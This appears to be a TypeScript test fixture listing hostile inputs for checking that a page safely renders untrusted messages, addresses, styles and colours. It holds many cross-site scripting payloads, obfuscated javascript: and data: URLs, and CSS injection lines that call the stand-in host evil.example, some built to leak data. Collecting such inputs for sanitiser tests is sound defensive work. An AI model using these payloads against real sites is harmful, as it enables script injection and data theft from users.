// What hostile bots and visitors send to a page that shows it: words, addresses, styles and colours.

/** Each sets `window.hacked` or asks another server, if anything of it is taken for more than words. */
export const WORDS: readonly string[] = [
  '<script>hacked = 1</script>',
  '<img src=x onerror="hacked = 1">',
  '<svg onload="hacked = 1">',
  '<svg><script>hacked = 1</script></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror="hacked = 1">',
  '<details open ontoggle="hacked = 1">x</details>',
  '<body onload="hacked = 1">',
  '<a href="javascript:hacked = 1">x</a>',
  '<input autofocus onfocus="hacked = 1">',
  '<template><img src=x onerror="hacked = 1"></template>',
  '"><img src=x onerror="hacked = 1">',
  "'-hacked=1-'",
  '${hacked = 1}',
  '{{constructor.constructor("hacked = 1")()}}',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
  '<!--<img src="--><img src=x onerror=hacked=1>">',
  '\u202e<script>hacked = 1</script>',
  '[x](javascript:hacked=1)',
  '[x](data:text/html,<script>opener.hacked=1</script>)',
  '![x](javascript:hacked=1)',
  '<video><source onerror="hacked = 1">',
  '<p style="background:url(https://evil.example/x)">x</p>',
];

/** None is more than a page: a click on one, or a load of it, would run a script. */
export const ADDRESSES: readonly string[] = [
  'javascript:hacked=1',
  'JaVaScRiPt:hacked=1',
  ' javascript:hacked=1',
  'java\nscript:hacked=1',
  'java\tscript:hacked=1',
  '\u0001javascript:hacked=1',
  'data:text/html,<script>parent.hacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked=1"><script>parent.hacked=1</script></svg>',
  'vbscript:hacked=1',
  'blob:hacked',
  'filesystem:hacked',
  'view-source:javascript:hacked=1',
];

/** Each would send a request elsewhere. */
export const STYLES: readonly string[] = [
  '@import "https://evil.example/a.css";',
  '@font-face { font-family: x; src: url(https://evil.example/f) } .bubble { font-family: x }',
  '.bubble { background: url(https://evil.example/b) }',
  '.bubble { background: u\\72l(https://evil.example/c) }',
  '.bubble { background-image: image-set("https://evil.example/d" 1x) }',
  '.bubble { --x: url(https://evil.example/e); background: var(--x) }',
  '.bubble { list-style: url(https://evil.example/f); display: list-item }',
  '.bubble { cursor: url(https://evil.example/g), auto }',
  '.bubble::before { content: url(https://evil.example/h) }',
  'textarea[value^="a"] { background: url(https://evil.example/i) }',
  '@media all { .bubble { background: url(https://evil.example/j) } }',
  '@keyframes x { from { background: url(https://evil.example/k) } } .bubble { animation: x 1s }',
  '.bubble { mask: url(https://evil.example/l#m) }',
  '.bubble { & .x, & { background: url(https://evil.example/m) } }',
  '@supports (display: grid) { .bubble { border-image: url(https://evil.example/n) 1 } }',
  '@layer a { .bubble { filter: url(https://evil.example/o#x) } }',
  '.bubble { background: var(--nothing,) url(https://evil.example/t) }',
  '.bubble { background: var(--nothing,) u\\72l(https://evil.example/u) }',
  '.bubble { & .x { color: red } background: url(https://evil.example/v) }',
];

/** Each breaks out of the declaration of a colour. */
export const COLORS: readonly string[] = [
  'red; background: url(https://evil.example/q)',
  'url(https://evil.example/r)',
  '}</style><script>hacked=1</script>',
  'var(--x, url(https://evil.example/s))',
  'expression(hacked=1)',
];
